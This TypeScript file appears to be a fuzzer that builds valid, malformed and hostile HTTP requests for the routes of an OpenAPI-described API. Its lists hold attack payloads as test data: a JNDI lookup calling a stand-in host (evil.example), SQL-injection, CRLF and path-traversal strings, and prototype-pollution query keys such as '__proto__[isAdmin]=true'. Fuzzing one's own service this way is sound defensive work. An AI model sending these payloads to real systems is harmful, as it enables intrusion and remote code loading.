import type { Random } from '../fixtures/random.ts';
import { HOSTILE_BODIES, HOSTILE_TEXTS, hostileValue } from './hostile-values.ts';
import { type Known, type Schema, spoil, validValue } from './make-input.ts';

export interface FuzzRequest {
  method: string;
  /** The path and query as sent. */
  url: string;
  headers: Record<string, string>;
  body?: string | Buffer;
}

interface Parameter {
  name: string;
  in: 'path' | 'query';
  required?: boolean;
  schema: Schema;
}
interface Operation {
  parameters?: Parameter[];
  requestBody?: { content: Record<string, { schema: Schema }> };
}
export interface ApiRoute extends Operation {
  method: string;
  path: string;
}

interface ApiDocument {
  paths: Record<string, Record<string, Operation>>;
  components?: { schemas?: Record<string, unknown> };
}

/** Every operation of an OpenAPI document, with its schemas in place of references to them. */
export const routesOf = ({ paths, components }: ApiDocument): ApiRoute[] =>
  Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, { parameters, requestBody }]) => ({
      ...(resolveReferences({ parameters, requestBody }, components?.schemas ?? {}) as Operation),
      method: method.toUpperCase(),
      path,
    })),
  );

function resolveReferences(node: unknown, schemas: Record<string, unknown>): unknown {
  if (Array.isArray(node)) return node.map((item) => resolveReferences(item, schemas));
  if (typeof node !== 'object' || node === null) return node;
  const { $ref } = node as { $ref?: string };
  if (typeof $ref === 'string') return resolveReferences(schemas[$ref.split('/').at(-1)!], schemas);
  return Object.fromEntries(Object.entries(node).map(([key, part]) => [key, resolveReferences(part, schemas)]));
}

const CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'text/event-stream',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'application/octet-stream',
  '',
  ';;;',
];
const HEADERS: [string, string][] = [
  ['accept-language', '\u00ff'.repeat(30)],
  ['accept', 'text/html'],
  ['accept', ';;;'],
  ['user-agent', 'x'.repeat(2000)],
  ['user-agent', '${jndi:ldap://evil.example/a}'],
  ['range', 'bytes=9-1'],
  ['if-none-match', '*'],
  ['content-disposition', 'attachment; filename="../x"'],
  ['last-event-id', '\u00e9'],
  ['x-forwarded-for', 'not an address'],
  ['x-forwarded-for', "1.1.1.1, ' OR 1=1, ::1%0d%0a"],
  ['x-http-method-override', 'DELETE'],
  ['expect', '100-continue'],
  ['cookie', 'closeup.session_token=%00.%E0%A4%A; lang=xx; a=b'],
  ['cookie', `closeup.session_token=${'x'.repeat(60)}.${'A'.repeat(44)}`],
];

/** A request for a route: a third of them valid, a third with one invalid place, a third hostile throughout. */
export function makeApiRequest(route: ApiRoute, random: Random, known: Known): FuzzRequest {
  const kind = random.upTo(3);
  const path = route.path.replace(/\{(\w+)\}/g, (_whole, name: string) => {
    const schema = route.parameters?.find((parameter) => parameter.in === 'path' && parameter.name === name)?.schema;
    const valid = String(validValue(schema ?? {}, name, random, known));
    if (kind === 0 || random.upTo(3) > 0) return encodeURIComponent(valid);
    return encodeText(String(random.pick(HOSTILE_TEXTS)), random) || '%20';
  });
  const query = makeQuery(route, kind, random, known);
  const headers: Record<string, string> = {};
  const request: FuzzRequest = { method: route.method, url: `/api${path}${query}`, headers };
  const schema = route.requestBody?.content['application/json']?.schema;
  if (route.method !== 'GET' && (schema || kind > 0)) {
    headers['content-type'] = 'application/json';
    const valid = schema ? validValue(schema, '', random, known) : {};
    request.body =
      kind === 0
        ? JSON.stringify(valid)
        : kind === 1
          ? JSON.stringify(times(1 + random.upTo(3), valid, (value) => spoil(value, random)))
          : random.upTo(2) === 0
            ? random.pick(HOSTILE_BODIES)
            : JSON.stringify(hostileValue(random));
    if (kind > 0 && random.upTo(8) === 0) headers['content-type'] = random.pick(CONTENT_TYPES);
  }
  if (kind > 0 && random.upTo(6) === 0) {
    const [name, value] = random.pick(HEADERS);
    headers[name] = value;
  }
  if (kind === 2 && random.upTo(20) === 0)
    request.method = random.pick(['GET', 'PUT', 'PATCH', 'POST', 'DELETE', 'OPTIONS', 'HEAD']);
  return request;
}

function makeQuery(route: ApiRoute, kind: number, random: Random, known: Known) {
  const pairs: string[] = [];
  for (const { name, schema, required, in: place } of route.parameters ?? []) {
    if (place !== 'query' || (!required && random.upTo(2) === 0)) continue;
    const valid = validValue(schema, name, random, known);
    const value = kind === 0 || random.upTo(3) > 0 ? valid : spoil(valid, random);
    const one = (child: unknown) =>
      encodeText(typeof child === 'string' ? child : (JSON.stringify(child) ?? ''), random, kind === 0);
    if (Array.isArray(value))
      value.slice(0, 60).forEach((child, index) => pairs.push(`${name}[${index}]=${one(child)}`));
    else pairs.push(`${name}=${one(value)}`);
    if (kind === 2 && random.upTo(3) === 0)
      pairs.push(
        random.pick([
          `${name}=again`,
          `${name}[]=x`,
          `${name}[a][b]=x`,
          `${name}[__proto__][x]=1`,
          `${name}[99999999]=x`,
          `${name}%5B`,
          `${name}=%00`,
          `${name}=%ED%A0%80`,
        ]),
      );
  }
  if (kind === 2 && random.upTo(4) === 0)
    pairs.push(
      random.pick([
        '__proto__[isAdmin]=true',
        'constructor[prototype][x]=1',
        '%',
        '%zz=1',
        'a=%E0%A4%A',
        '=',
        '&&',
        '[]=1',
        '[=1',
        'a'.repeat(3000),
        `${'a[b]'.repeat(300)}=1`,
        'junk=1',
      ]),
    );
  return pairs.length > 0 ? `?${pairs.join('&')}` : '';
}

/** Percent-encodes, now and then wrongly. */
function encodeText(text: string, random: Random, isStrict = false) {
  if (isStrict || random.upTo(12) > 0) return encodeURIComponent(text.toWellFormed());
  return random.pick([
    '%',
    '%zz',
    '%00',
    '%ED%A0%80',
    '%E0%A4%A',
    '%C0%80',
    '%FF%FE',
    '%2e%2e%2f',
    '%0d%0aX:1',
    '%u0041',
  ]);
}

function times<T>(count: number, value: T, change: (value: T) => T): T {
  let changed = value;
  for (let done = 0; done < count; done++) changed = change(changed);
  return changed;
}
